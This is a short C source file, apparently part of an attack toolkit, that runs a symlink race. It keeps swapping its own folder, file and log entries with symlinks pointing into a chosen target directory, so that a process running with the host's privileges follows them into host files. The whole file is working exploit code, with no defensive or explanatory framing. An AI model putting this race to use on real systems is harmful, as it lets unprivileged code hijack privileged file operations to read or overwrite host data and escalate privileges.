/* Directories and files of its own that are, every other moment, links to the host's: for whoever walks there with the host's rights. */
#include "attack.h"
#include <linux/fs.h>
#include <poll.h>

static void swap(const char *a, const char *b) { syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE); }

/* Below the working directory: `folder/file`, `file`, `logs/t.stdout.0` are its own, or those of the directory `target`. */
int race(void) {
  char file[512];
  struct pollfd input = {.fd = 0, .events = POLLIN};
  const char *target = given("target");
  snprintf(file, sizeof file, "%s/file", target);
  if (symlink(target, "folder-link") || symlink(file, "file-link") || symlink(file, "log-link")) return 1;
  puts("racing");
  fflush(stdout);
  for (unsigned turn = 0; poll(&input, 1, 0) == 0; turn++) {
    swap("folder", "folder-link");
    swap("file", "file-link");
    swap("logs/t.stdout.0", "log-link");
  }
  return 0;
}
